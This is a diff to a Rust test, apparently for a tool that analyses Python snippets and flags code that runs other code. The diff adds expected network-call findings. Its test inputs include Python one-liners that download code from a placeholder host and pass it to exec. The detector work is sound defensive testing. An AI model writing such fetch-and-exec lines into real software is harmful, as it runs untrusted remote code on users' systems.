@@ -242,15 +242,15 @@ fn code_that_runs_code_is_followed() {
             ("eval(x)", &["code: <x>"]),
             (
                 "from urllib.request import urlopen\nexec(urlopen('http://h').read())",
-                &["code: <fetched>"],
+                &["code: <fetched>", "call: curl -- http://h"],
             ),
             (
                 "import requests\nexec(requests.get('http://h').text)",
-                &["code: <fetched>"],
+                &["code: <fetched>", "call: curl -- http://h"],
             ),
             (
                 "import urllib.request as u\nexec(compile(u.urlopen('http://h').read().decode(), 'x', 'exec'))",
-                &["code: <?>", "code: <fetched>"],
+                &["code: <?>", "code: <fetched>", "call: curl -- http://h"],
             ),
         ],
     );
